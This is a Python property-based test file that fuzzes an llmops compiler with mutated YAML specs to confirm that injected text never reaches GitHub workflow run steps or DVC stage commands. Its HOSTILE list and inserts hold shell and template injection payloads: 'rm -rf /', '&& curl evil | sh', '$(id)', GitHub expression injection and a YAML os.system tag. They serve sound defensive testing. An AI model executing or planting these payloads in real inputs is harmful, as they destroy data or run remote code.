"""Property test: mutated and hostile specs never crash the compiler with anything but an
llmops error, and no spec text reaches a workflow `run:` line or a DVC `cmd`."""

from __future__ import annotations

import copy
import shlex
from pathlib import Path
from typing import Any

import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from llmops.compiler.compile import compile_project
from llmops.compiler.load import parse_project_file, parse_specs
from llmops.errors import LlmopsError

FULL = Path(__file__).resolve().parents[1] / "fixtures" / "projects" / "full"
PROJECT_TEXT = (FULL / "llmops.yaml").read_text()
SOURCES = {p.relative_to(FULL).as_posix(): p.read_text() for p in sorted((FULL / "specs").rglob("*.yaml"))}
DOCS = {path: yaml.load(text, Loader=yaml.CSafeLoader) for path, text in SOURCES.items()}

HOSTILE = [
    "$(id)",
    "`id`",
    "'; rm -rf / #",
    '"quoted"',
    "${{ github.event.pull_request.title }}",
    "${HOME}",
    "line\nbreak: true",
    "x" * 5000,
    "ünïcødé ✓ 𝔘",
    "&& curl evil | sh",
    "{{ 7*7 }}",
    "\u202eevil",
]
hostile_text = st.one_of(
    st.sampled_from(HOSTILE), st.text(max_size=60), st.sampled_from(HOSTILE).map(lambda s: "ok-" + s)
)
values = st.one_of(
    hostile_text,
    st.integers(min_value=-(10**12), max_value=10**12),
    st.floats(allow_nan=True),
    st.booleans(),
    st.none(),
    st.lists(hostile_text, max_size=3),
    st.dictionaries(hostile_text, hostile_text, max_size=2),
)


def _paths(node: Any, prefix: tuple = ()) -> list[tuple]:
    found = [prefix]
    if isinstance(node, dict):
        for key, value in node.items():
            found += _paths(value, prefix + (key,))
    elif isinstance(node, list):
        for i, value in enumerate(node):
            found += _paths(value, prefix + (i,))
    return found


def _set(doc: Any, path: tuple, value: Any, action: str) -> Any:
    if not path:
        return value if action == "replace" else doc
    parent = doc
    for part in path[:-1]:
        parent = parent[part]
    if action == "delete":
        del parent[path[-1]]
    elif action == "add-key" and isinstance(parent, dict):
        parent[str(value)[:40]] = value
    else:
        parent[path[-1]] = value
    return doc


def _project():
    project_file, errors = parse_project_file(PROJECT_TEXT)
    assert project_file is not None and not errors
    return project_file


def _check_outputs(files: dict[str, str]) -> None:
    for path, text in files.items():
        if path.startswith(".github/workflows/"):
            workflow = yaml.safe_load(text)
            for job in workflow["jobs"].values():
                for step in job.get("steps", []):
                    run = step.get("run", "")
                    assert "${{" not in run, (path, run)
                    for marker in HOSTILE:
                        assert marker not in run, (path, run)
        if path == "dvc.yaml":
            for name, stage in (yaml.safe_load(text)["stages"] or {}).items():
                assert shlex.split(stage["cmd"]) == ["llmops", "run", name]


def _compile(sources: dict[str, str]) -> None:
    try:
        compiled = compile_project(parse_specs(_project(), sources))
    except LlmopsError:
        return
    _check_outputs(compiled.files)


@settings(deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.data())
def test_mutated_documents(data):
    path = data.draw(st.sampled_from(sorted(DOCS)))
    doc = copy.deepcopy(DOCS[path])
    target = data.draw(st.sampled_from(_paths(doc)))
    action = data.draw(st.sampled_from(["replace", "delete", "add-key"]))
    doc = _set(doc, target, data.draw(values), action)
    try:
        text = yaml.safe_dump(doc, allow_unicode=True)
    except yaml.YAMLError:
        return
    _compile({**SOURCES, path: text})


@settings(deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.data())
def test_mutated_text(data):
    path = data.draw(st.sampled_from(sorted(SOURCES)))
    text = SOURCES[path]
    at = data.draw(st.integers(min_value=0, max_value=len(text)))
    cut = data.draw(st.integers(min_value=0, max_value=20))
    insert = data.draw(
        st.one_of(
            hostile_text,
            st.sampled_from([":", "- ", "\t", "&a", "*a", "!!python/object:os.system", "{", "<<<<<<< x\n"]),
        )
    )
    _compile({**SOURCES, path: text[:at] + insert + text[at + cut :]})


@settings(deadline=None)
@given(text=hostile_text)
def test_hostile_free_text_compiles_and_stays_out_of_commands(text):
    doc = copy.deepcopy(DOCS["specs/models/tiny-base.yaml"])
    doc["description"] = text
    doc["tags"] = {"team": text}
    compiled = compile_project(
        parse_specs(_project(), {**SOURCES, "specs/models/tiny-base.yaml": yaml.safe_dump(doc)})
    )
    _check_outputs(compiled.files)
    # the text never shows up in a workflow or dvc.yaml (unless those hold it anyway, like "base")
    for path, out in compiled.files.items():
        if path.endswith((".yml", "dvc.yaml")) and len(text) > 3:
            assert text not in out or text in BASELINE_FILES[path]


BASELINE_FILES = compile_project(parse_specs(_project(), SOURCES)).files


def test_hostile_names_are_rejected_with_a_position():
    for bad in ["$(id)", "a`b`", "x; rm", "${{ github.event.x }}", "A" * 70, "naïve"]:
        doc = copy.deepcopy(DOCS["specs/data/tickets.yaml"])
        doc["name"] = bad
        try:
            compile_project(
                parse_specs(_project(), {**SOURCES, "specs/data/tickets.yaml": yaml.safe_dump(doc)})
            )
        except LlmopsError as exc:
            assert "specs/data/tickets.yaml:" in str(exc) and "name:" in str(exc)
        else:
            raise AssertionError(f"name {bad!r} was accepted")
